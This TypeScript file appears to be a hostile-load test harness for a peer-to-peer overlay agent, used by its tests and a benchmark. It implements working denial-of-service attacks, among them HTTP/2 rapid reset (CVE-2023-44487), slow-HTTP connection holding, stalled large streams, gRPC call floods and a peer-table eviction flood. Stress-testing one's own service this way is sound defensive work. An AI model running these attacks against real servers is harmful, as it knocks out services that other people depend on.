/**
 * Attacks an outside host can make on an agent's port (issue "Hold under hostile
 * load"), for the hostile tests and `npm run bench:hostile`. Node builtins only,
 * so it runs as is inside a network namespace:
 *
 *   node dist/tools/hostile/attacks.js ATTACK HOST PORT SECONDS [ARGS…]
 *
 * Each attack runs for SECONDS and prints one JSON line of what it did and what
 * the agent answered. Every socket it opens is closed before it exits.
 */
import { randomBytes } from 'node:crypto';
import http from 'node:http';
import http2 from 'node:http2';
import net from 'node:net';

/** What an attack prints when it ends. */
export type AttackReport = Record<string, number | Record<string, number>>;

const { NGHTTP2_CANCEL } = http2.constants;

/** Counts keyed by a label (status codes, reset codes, errors). */
class Tally {
  readonly counts: Record<string, number> = {};
  add(key: string | number, n = 1): void {
    this.counts[String(key)] = (this.counts[String(key)] ?? 0) + n;
  }
}

function grpcHeaders(path: string): http2.OutgoingHttpHeaders {
  return {
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
  };
}

/** A gRPC frame: the 5-byte prefix (uncompressed, length) and the message. */
function frame(message: Buffer): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

/** Protobuf: a length-delimited field (wire type 2) with a short (< 128 byte) body. */
function field(n: number, body: Buffer): Buffer {
  return Buffer.concat([Buffer.from([(n << 3) | 2, body.length]), body]);
}

/** An Overlay.Announce request for (`infoHash`, `addr`). */
export function announceRequest(infoHash: Buffer, addr: string): Buffer {
  const provider = Buffer.concat([
    field(1, Buffer.from(addr)),
    field(2, Buffer.from('-HO0001-' + randomBytes(6).toString('hex'))),
  ]);
  return Buffer.concat([field(1, infoHash), field(2, provider)]);
}

/** Opens an HTTP/2 session; resolves once connected (or undefined when refused). */
function connect(host: string, port: number): Promise<http2.ClientHttp2Session | undefined> {
  return new Promise((resolve) => {
    const s = http2.connect(`http://${host}:${port}`);
    s.once('connect', () => resolve(s));
    s.once('error', () => resolve(undefined));
    s.once('close', () => resolve(undefined));
  });
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

/**
 * Streams that announce a message of `bytes` and send all of it but the last
 * KiB, never finishing it: `conns` connections × `streams` streams, each reopened
 * when the agent resets it.
 */
async function unfinished(
  host: string,
  port: number,
  until: number,
  conns: number,
  streams: number,
  bytes: number,
): Promise<AttackReport> {
  const resets = new Tally();
  let opened = 0;
  let sent = 0;
  let refusedConnections = 0;
  const sessions: http2.ClientHttp2Session[] = [];
  const chunk = Buffer.alloc(64 * 1024);
  const stream = (s: http2.ClientHttp2Session): void => {
    if (Date.now() >= until || s.destroyed || s.closed) return;
    let st: http2.ClientHttp2Stream;
    try {
      st = s.request(grpcHeaders('/btoverlay.v1.Overlay/Lookup'));
    } catch {
      return;
    }
    opened++;
    st.on('error', () => undefined);
    st.on('close', () => {
      resets.add(st.rstCode ?? -1);
      // Reopen, as an attacker keeping the pressure on would.
      setTimeout(() => stream(s), 50);
    });
    const head = Buffer.alloc(5);
    head.writeUInt32BE(bytes, 1);
    let left = bytes - 1024;
    st.write(head);
    const pump = (): void => {
      while (left > 0 && !st.destroyed) {
        const n = Math.min(left, chunk.length);
        left -= n;
        sent += n;
        if (!st.write(n === chunk.length ? chunk : chunk.subarray(0, n))) {
          st.once('drain', pump);
          return;
        }
      }
    };
    pump();
  };
  for (let c = 0; c < conns; c++) {
    const s = await connect(host, port);
    if (s === undefined) {
      refusedConnections++;
      continue;
    }
    s.on('error', () => undefined);
    sessions.push(s);
    for (let i = 0; i < streams; i++) stream(s);
  }
  await sleep(Math.max(0, until - Date.now()));
  const closed = sessions.filter((s) => s.closed || s.destroyed).length;
  for (const s of sessions) s.destroy();
  return { opened, sent, refusedConnections, closedByAgent: closed, resets: resets.counts };
}

/**
 * `conns` workers, each holding one connection at a time until `until`: `use`
 * works on it until the agent closes it (false: the worker is done); a refused
 * connection is counted and retried after `backoffMs`, as a persistent attacker would.
 */
async function onConnections(
  host: string,
  port: number,
  until: number,
  conns: number,
  backoffMs: number,
  use: (s: http2.ClientHttp2Session) => Promise<boolean>,
): Promise<{ connections: number; refusedConnections: number }> {
  let connections = 0;
  let refusedConnections = 0;
  const worker = async (): Promise<void> => {
    while (Date.now() < until) {
      const s = await connect(host, port);
      if (s === undefined) {
        refusedConnections++;
        await sleep(backoffMs);
        continue;
      }
      connections++;
      s.on('error', () => undefined);
      const more = await use(s);
      s.destroy();
      if (!more) return;
    }
  };
  await Promise.all(Array.from({ length: conns }, worker));
  return { connections, refusedConnections };
}

/** Whether `s` is still open and there is time left. */
const live = (s: http2.ClientHttp2Session, until: number): boolean =>
  Date.now() < until && !s.closed && !s.destroyed;

/**
 * HTTP/2 rapid reset (CVE-2023-44487): HEADERS then RST_STREAM, as fast as the
 * socket takes them, on `conns` connections; reconnects when the agent closes one.
 */
async function rapidReset(
  host: string,
  port: number,
  until: number,
  conns: number,
): Promise<AttackReport> {
  let streams = 0;
  const headers = grpcHeaders('/btoverlay.v1.Overlay/Lookup');
  const counts = await onConnections(host, port, until, conns, 20, async (s) => {
    while (live(s, until)) {
      for (let i = 0; i < 50 && live(s, until); i++) {
        try {
          const st = s.request(headers);
          st.on('error', () => undefined);
          st.close(NGHTTP2_CANCEL);
          streams++;
        } catch {
          break;
        }
      }
      await new Promise((r) => setImmediate(r));
    }
    return true;
  });
  return { streams, ...counts };
}

/** One unary gRPC call on a session: resolves with its grpc-status (-1: none). */
function unary(s: http2.ClientHttp2Session, path: string, message: Buffer): Promise<number> {
  return new Promise((resolve) => {
    let status = -1;
    let st: http2.ClientHttp2Stream;
    try {
      st = s.request(grpcHeaders(path));
    } catch {
      resolve(-2);
      return;
    }
    const take = (h: http2.IncomingHttpHeaders): void => {
      if (h['grpc-status'] !== undefined) status = Number(h['grpc-status']);
    };
    st.on('response', take);
    st.on('trailers', take);
    st.on('data', () => undefined);
    st.on('error', () => undefined);
    st.on('close', () => resolve(status));
    st.end(frame(message));
  });
}

/** Unary calls made by `conns` workers, each on its own connection, until `until`. */
async function unaryFlood(
  host: string,
  port: number,
  until: number,
  conns: number,
  next: () => { path: string; message: Buffer } | undefined,
): Promise<AttackReport> {
  const statuses = new Tally();
  const { refusedConnections } = await onConnections(host, port, until, conns, 50, async (s) => {
    while (live(s, until)) {
      const call = next();
      if (call === undefined) return false;
      statuses.add(await unary(s, call.path, call.message));
    }
    return true;
  });
  return {
    calls: Object.values(statuses.counts).reduce((a, b) => a + b, 0),
    refusedConnections,
    statuses: statuses.counts,
  };
}

/** HTTP/1.1 GETs of `path` on `conns` keep-alive connections. */
async function scrape(
  host: string,
  port: number,
  until: number,
  conns: number,
  path: string,
): Promise<AttackReport> {
  const statuses = new Tally();
  const agent = new http.Agent({ keepAlive: true, maxSockets: conns });
  const get = (): Promise<void> =>
    new Promise((resolve) => {
      const req = http.get({ host, port, path, agent }, (res) => {
        statuses.add(res.statusCode ?? 0);
        res.resume();
        res.on('end', resolve);
        res.on('error', () => resolve());
      });
      req.on('error', (e: NodeJS.ErrnoException) => {
        statuses.add(e.code ?? 'error');
        setTimeout(resolve, 20);
      });
    });
  const worker = async (): Promise<void> => {
    while (Date.now() < until) await get();
  };
  await Promise.all(Array.from({ length: conns }, worker));
  agent.destroy();
  return {
    requests: Object.values(statuses.counts).reduce((a, b) => a + b, 0),
    statuses: statuses.counts,
  };
}

/**
 * Slow HTTP/1.1 clients: `conns` connections that each send a request head one
 * byte a second, holding an HTTP slot; counts the 503s the agent answers.
 */
async function slowHttp(
  host: string,
  port: number,
  until: number,
  conns: number,
): Promise<AttackReport> {
  const answers = new Tally();
  const head = 'GET /metrics HTTP/1.1\r\nHost: agent\r\nX-Slow: ' + 'a'.repeat(4000);
  const sockets = await Promise.all(
    Array.from(
      { length: conns },
      () =>
        new Promise<net.Socket>((resolve) => {
          const s = net.connect(port, host, () => resolve(s));
          let first = true;
          s.on('data', (d: Buffer) => {
            if (!first) return;
            first = false;
            answers.add(d.toString('latin1').split('\r\n')[0] ?? '');
          });
          s.on('error', () => resolve(s));
          s.on('close', () => {
            if (first) answers.add('closed');
          });
          let i = 0;
          const drip = setInterval(() => {
            if (s.destroyed || Date.now() >= until || i >= head.length) {
              clearInterval(drip);
              return;
            }
            s.write(head[i++]);
          }, 1000);
          s.write(head.slice(0, 4));
          i = 4;
        }),
    ),
  );
  await sleep(Math.max(0, until - Date.now()));
  for (const s of sockets) s.destroy();
  return { connections: conns, answers: answers.counts };
}

/** Runs one attack from the command line. */
export async function main(argv: string[]): Promise<AttackReport> {
  const [attack, host, portText, secondsText, ...rest] = argv;
  const port = Number(portText);
  const until = Date.now() + Number(secondsText) * 1000;
  const n = (i: number, d: number): number => (rest[i] === undefined ? d : Number(rest[i]));
  switch (attack) {
    case 'unfinished':
      return unfinished(host, port, until, n(0, 10), n(1, 100), n(2, 4 * 1024 * 1024 - 1));
    case 'rapid-reset':
      return rapidReset(host, port, until, n(0, 50));
    case 'scrape':
      return scrape(host, port, until, n(0, 16), rest[1] ?? '/metrics');
    case 'slow-http':
      return slowHttp(host, port, until, n(0, 100));
    case 'status':
      return unaryFlood(host, port, until, n(0, 16), () => ({
        path: '/btoverlay.v1.Control/Status',
        message: Buffer.alloc(0),
      }));
    case 'announce-flood': {
      // Own address, a new info hash each time: every announce passes the address check.
      const self = rest[1] ?? '0.0.0.0';
      let i = 0;
      return unaryFlood(host, port, until, n(0, 8), () => ({
        path: '/btoverlay.v1.Overlay/Announce',
        message: announceRequest(randomBytes(20), `${self}:${10_000 + (i++ % 50_000)}`),
      }));
    }
    case 'evict': {
      // One info hash, one address, a new port each time (the address check passes).
      const infoHash = Buffer.from(rest[1] ?? '', 'hex');
      const self = rest[2] ?? '0.0.0.0';
      const count = n(3, 1000);
      let i = 0;
      return unaryFlood(host, port, until, n(0, 4), () =>
        i >= count
          ? undefined
          : {
              path: '/btoverlay.v1.Overlay/Announce',
              message: announceRequest(infoHash, `${self}:${20_000 + i++}`),
            },
      );
    }
    default:
      throw new Error(`unknown attack "${attack}"`);
  }
}

if (process.argv[1]?.endsWith('attacks.js')) {
  main(process.argv.slice(2)).then(
    (r) => {
      console.log(JSON.stringify(r));
      process.exit(0);
    },
    (err: unknown) => {
      console.error(err instanceof Error ? err.message : String(err));
      process.exit(2);
    },
  );
}
